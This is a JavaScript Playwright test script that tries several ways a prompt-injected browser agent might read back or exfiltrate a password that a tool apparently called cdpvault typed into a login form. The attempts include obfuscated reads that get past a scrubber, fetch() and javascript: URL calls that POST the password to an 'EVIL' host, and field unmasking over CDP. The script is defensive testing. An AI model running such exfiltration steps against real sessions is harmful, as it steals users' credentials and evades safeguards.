// After cdpvault typed a secret into ACME's login page (Playwright fill()),
// every way a prompt-injected agent could read it back transformed (past
// the scrubber) or send it elsewhere with script is tried, through
// Playwright's API, a raw CDP session and a second connection. Each attempt
// is recorded; the Go test asserts they were all refused, that the form
// still logs in with the Enter key, and that script works again on the next
// page.
import { chromium } from 'playwright-core';
import { env, main, attempt } from './lib.mjs';

main(async () => {
  const ACME = env('ACME'), EVIL = env('EVIL'), PH = env('PH');
  const browser = await chromium.connectOverCDP(env('CDP_URL'), { timeout: 30000 });
  const context = browser.contexts()[0] ?? (await browser.newContext());
  const page = await context.newPage();
  page.setDefaultTimeout(8000);
  await page.goto(`${ACME}/login`);
  await page.fill('#username', 'alice');
  const cdp = await context.newCDPSession(page);
  await cdp.send('DOM.enable');
  const { root } = await cdp.send('DOM.getDocument');
  const { nodeId } = await cdp.send('DOM.querySelector', { nodeId: root.nodeId, selector: '#password' });
  await page.fill('#password', PH);

  const results = [];
  const pw = `document.getElementById('password').value`;
  results.push(await attempt('evaluate-reversed', () => page.evaluate(`${pw}.split('').reverse().join('')`)));
  results.push(await attempt('evaluate-char-codes', () => page.evaluate(`[...${pw}].map((c) => c.charCodeAt(0) + 1)`)));
  results.push(await attempt('evaluate-fetch-evil', () => page.evaluate(
    `fetch(${JSON.stringify(EVIL + '/api/login')}, {method: 'POST', mode: 'no-cors', body: ${pw}.split('').reverse().join('')})`)));
  results.push(await attempt('locator-evaluate', () => page.locator('#password').evaluate((e) => e.value.toUpperCase())));
  results.push(await attempt('locator-inputValue', () => page.inputValue('#password')));
  results.push(await attempt('cdp-evaluate', () => cdp.send('Runtime.evaluate', { expression: `${pw}.split('').reverse().join('')`, returnByValue: true })
    .then((r) => { if (r.exceptionDetails) throw new Error(r.exceptionDetails.exception?.description ?? r.exceptionDetails.text); return r.result.value; })));
  results.push(await attempt('cdp-unmask-field', () => cdp.send('DOM.setAttributeValue', { nodeId, name: 'type', value: 'text' })));
  results.push(await attempt('cdp-javascript-url', () => cdp.send('Page.navigate', {
    url: `javascript:fetch(${JSON.stringify(EVIL + '/api/login')}, {method: 'POST', mode: 'no-cors', body: ${pw}})` })));
  results.push(await attempt('second-connection-evaluate', async () => {
    const b2 = await chromium.connectOverCDP(env('CDP_URL'), { timeout: 15000 });
    try {
      const p2 = b2.contexts().flatMap((c) => c.pages()).find((p) => p.url().startsWith(`${ACME}/login`));
      if (!p2) throw new Error('second connection does not see the page');
      return await p2.evaluate(`${pw}.split('').reverse().join('')`);
    } finally {
      await b2.close().catch(() => {});
    }
  }));

  // Logging in still works with input only; the next page runs script again.
  results.push(await attempt('submit-with-enter', () => Promise.all([page.waitForURL((u) => u.pathname === '/login', { waitUntil: 'load' }),
    page.waitForRequest((r) => r.method() === 'POST' && r.isNavigationRequest()), page.keyboard.press('Enter')]).then(() => 'submitted')));
  results.push(await attempt('after-navigation', () => page.textContent('#result')));
  await browser.close();
  return { results };
});
